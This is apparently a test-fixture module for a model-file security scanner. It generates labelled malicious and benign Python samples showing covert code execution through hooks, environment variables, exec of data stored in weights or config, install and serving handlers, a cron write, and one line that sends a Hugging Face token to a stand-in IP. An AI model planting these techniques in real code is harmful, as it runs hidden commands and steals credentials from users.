"""Python source whose own calls look harmless: what it sets, registers or reads does the rest. Commands are `echo` at most."""

from __future__ import annotations

from stannary.testing.forges import forge

__all__: list[str] = []

_RUN = "os.system('echo stannary')"
_HOOKS = {
    "audit_hook": f"import sys, os\nsys.addaudithook(lambda *a: {_RUN})\n",
    "except_hook": f"import sys, os\nsys.excepthook = lambda *a: {_RUN}\n",
    "except_hook_function": f"import sys, os\ndef shown(*a):\n    {_RUN}\nsys.excepthook = shown\n",
    "trace": f"import sys, os\nsys.settrace(lambda *a: {_RUN})\n",
    "profile": f"import threading, os\nthreading.setprofile(lambda *a: {_RUN})\n",
    "signal": f"import signal, os\nsignal.signal(signal.SIGALRM, lambda *a: {_RUN})\nsignal.alarm(1)\n",
    "timer": f"import threading, os\nthreading.Timer(60, lambda: {_RUN}).start()\n",
    "finalizer": "import weakref, os\nclass A: pass\na = A()\nweakref.finalize(a, os.system, 'echo stannary')\n",
    "patched_loader": f"import torch, os\n_load = torch.load\ndef load(*a, **k):\n    {_RUN}\n    return _load(*a, **k)\ntorch.load = load\n",
    "class_getitem": f"import os\nclass A:\n    def __class_getitem__(cls, key):\n        {_RUN}\nx: A[int] = 0\n",
    "reduced": "import os, functools\nfunctools.reduce(lambda a, b: os.system(b), ['', 'echo stannary'])\n",
}
_SET = {
    "breakpoint": "import os\nos.environ['PYTHONBREAKPOINT'] = 'os.system'\nbreakpoint('echo stannary')\n",
    "preload": "import os, subprocess\nos.environ['LD_PRELOAD'] = '/tmp/x.so'\nsubprocess.run(['true'])\n",
    "startup": "import os\nos.environ.update(PYTHONSTARTUP='/tmp/x.py')\n",
    "search_path": "import os\nos.putenv('PYTHONPATH', '/tmp/evil')\n",
    "default": "import os\nos.environ.setdefault('BASH_ENV', './x.sh')\n",
}
_KEPT = {
    "metadata": "from safetensors import safe_open\nwith safe_open('m.safetensors', 'pt') as f:\n    exec(f.metadata()['init'])\n",
    "setting": "import json\nexec(json.load(open('config.json'))['init'])\n",
    "weights": "import torch\nw = torch.load('m.pt', weights_only=True)\nexec(bytes(w['code'].tolist()).decode())\n",
    "variable": "import os\nexec(os.environ.get('X', ''))\n",
    "data_file": "import runpy\nrunpy.run_path('weights.bin')\n",
    "data_file_beside": "import os, runpy\nrunpy.run_path(os.path.join(os.path.dirname(__file__), 'data.json'))\n",
    "docstring": f"def f():\n    '''import os\n{_RUN}'''\nexec(f.__doc__)\n",
    "marshalled": "import marshal, types\ntypes.FunctionType(marshal.loads(b'\\xe3'), globals())()\n",
}
_REACHED = {
    "by_module": "import inspect\ngetattr(inspect.os, 'sys' + 'tem')('echo stannary')\n",
    "by_function": "(lambda: 0).__globals__['__builtins__'].__import__('os').system('echo stannary')\n",
    "by_memory": "import gc\n[o for o in gc.get_objects() if getattr(o, '__name__', '') == 'system'][0]('echo stannary')\n",
    "foreign_library": "from ctypes import cdll\ncdll.LoadLibrary('/tmp/x.so')\n",
    "executable_memory": "import mmap\nm = mmap.mmap(-1, 4096, prot=7)\nm.write(b'\\x90')\n",
    "token_sent": "from huggingface_hub import HfFolder\nimport requests\nrequests.get('http://203.0.113.9/?t=' + HfFolder.get_token())\n",
    "cron_by_framework": "import tensorflow as tf\ntf.io.write_file('/etc/cron.d/x', '* * * * * root echo')\n",
}
_SERVED = {
    "handler": (
        "handler.py",
        f"import os\nclass EndpointHandler:\n    def __init__(self, path):\n        {_RUN}\n    def __call__(self, data):\n        return data\n",
    ),
    "predictor": (
        "predict.py",
        f"from cog import BasePredictor\nimport os\nclass P(BasePredictor):\n    def setup(self):\n        {_RUN}\n",
    ),
    "torchserve": (
        "ts_handler.py",
        f"from ts.torch_handler.base_handler import BaseHandler\nimport os\nclass H(BaseHandler):\n    def initialize(self, c):\n        {_RUN}\n",
    ),
    "triton": ("model.py", f"import os\nclass TritonPythonModel:\n    def initialize(self, args):\n        {_RUN}\n"),
    "sagemaker": ("inference.py", "import subprocess\ndef model_fn(folder):\n    subprocess.run('echo stannary', shell=True)\n"),
    "dataset": (
        "data.py",
        f"import datasets, os\nclass D(datasets.GeneratorBasedBuilder):\n    def _split_generators(self, m):\n        {_RUN}\n",
    ),
    "test_set_up": ("conftest.py", f"import os\ndef pytest_configure(config):\n    {_RUN}\n"),
    "hub": ("hubconf.py", f"dependencies = ['torch']\nimport os\ndef model():\n    {_RUN}\n"),
    "server": ("gunicorn.conf.py", f"import os\ndef on_starting(server):\n    {_RUN}\n"),
    "install_command": (
        "setup.py",
        f"import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        {_RUN}\n        install.run(self)\nsetup(cmdclass={{'install': I}})\n",
    ),
}
_PLAIN = (
    "import json, os, runpy, signal, sys\n"
    "os.environ['CUDA_VISIBLE_DEVICES'] = '0'\nos.environ['LD_PRELOAD'] = '/usr/lib/libjemalloc.so.2'\nos.environ.setdefault('PYTHONPATH', './src')\n"
    "exec(open('version.py').read())\nrunpy.run_path('train.py')\nconfig = json.load(open('config.json'))\n"
    "signal.signal(signal.SIGINT, lambda *a: sys.exit(1))\nsys.excepthook = lambda *a: print(a)\n"
)
for _name, _text in {**_HOOKS, **_SET, **_KEPT, **_REACHED}.items():
    forge(f"python.outside_{_name}", filename="train.py", family="Python source", malicious=True)(_text.encode)
for _name, (_file, _text) in _SERVED.items():
    forge(f"python.served_{_name}", filename=_file, family="Python source", malicious=True)(_text.encode)
forge("python.outside_plain", filename="train.py", family="Python source", malicious=False)(_PLAIN.encode)
_HANDLER = b"""import os
import subprocess

from transformers import pipeline


class EndpointHandler:
    def __init__(self, path):
        subprocess.run(["nvidia-smi"])
        os.environ["HF_HOME"] = "/tmp/hf"
        self.pipe = pipeline("text-classification", path)

    def __call__(self, data):
        return self.pipe(data)
"""
forge("python.served_plain", filename="handler.py", family="Python source", malicious=False)(lambda: _HANDLER)
